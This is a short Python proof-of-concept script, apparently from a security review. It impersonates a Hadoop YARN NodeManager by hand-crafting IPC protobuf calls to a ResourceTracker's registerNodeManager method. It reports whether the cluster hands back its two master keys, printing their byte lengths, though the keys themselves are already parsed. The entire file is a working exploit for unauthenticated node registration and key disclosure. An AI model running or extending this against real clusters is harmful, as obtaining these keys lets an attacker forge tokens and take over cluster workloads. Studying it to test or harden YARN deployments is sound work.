"""The reviewer's attack, for a container: says to a ResourceTracker that it is a node and prints
what comes back: "keys" and how many bytes both master keys have, or the refusal. Arguments: HOST
PORT. Hadoop IPC by hand; needs nothing but Python."""
import os
import socket
import struct
import sys

PROTOCOL = b"org.apache.hadoop.yarn.server.api.ResourceTrackerPB"


def varint(n):
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def field(number, value):
    """A varint, or bytes with their length."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def framed(*messages):
    body = b"".join(varint(len(m)) + m for m in messages)
    return struct.pack(">I", len(body)) + body


def fields(data):
    """{number: last value} of a message."""
    found, at = {}, 0

    def number():
        nonlocal at
        n = shift = 0
        while True:
            byte = data[at]
            at += 1
            n |= (byte & 127) << shift
            shift += 7
            if byte < 128:
                return n

    while at < len(data):
        key = number()
        if key & 7 == 0:
            found[key >> 3] = number()
        elif key & 7 == 2:
            n = number()
            found[key >> 3] = data[at : at + n]
            at += n
        else:
            raise ValueError("wire type %d" % (key & 7))
    return found


def read(s, n):
    data = b""
    while len(data) < n:
        part = s.recv(n - len(data))
        if not part:
            raise EOFError("closed after %r" % data)
        data += part
    return data


def delimited(data):
    n = shift = at = 0
    while True:
        n |= (data[at] & 127) << shift
        at, shift = at + 1, shift + 7
        if data[at - 1] < 128:
            return data[at : at + n], data[at + n :]


def register(host, port, node_port, memory=1024):
    """What the ResourceTracker says to a node of this port: ("keys", their lengths), or why not."""
    try:
        s = socket.create_connection((host, port), 30)
    except OSError as e:
        return "refused:", e.strerror
    client = os.urandom(16)
    header = (
        lambda call: field(1, 2) + field(2, 0) + field(3, call) + field(4, client) + field(5, 1)
    )
    context = field(2, field(1, b"yarn")) + field(3, PROTOCOL)
    node = field(1, field(1, host.encode()) + field(2, node_port)) + field(3, node_port + 1)
    node += field(4, field(1, memory) + field(2, 1)) + field(5, b"3.4.2")
    call = field(1, b"registerNodeManager") + field(2, PROTOCOL) + field(3, 1)
    with s:
        s.sendall(
            b"hrpc" + bytes([9, 0, 0]) + framed(header(5), context) + framed(header(0), call, node)
        )
        try:
            data = read(s, struct.unpack(">I", read(s, 4))[0])
        except (EOFError, OSError) as e:
            return "no answer:", e
    head, rest = delimited(data)
    head = fields(head)
    if head.get(2, 0) != 0:
        return "error:", head.get(5, b"").decode()
    body = fields(delimited(rest)[0])
    return ("keys", *[len(fields(body[n]).get(2, b"")) for n in (1, 2) if n in body])


if __name__ == "__main__":
    print(*register(sys.argv[1], int(sys.argv[2]), 4711))
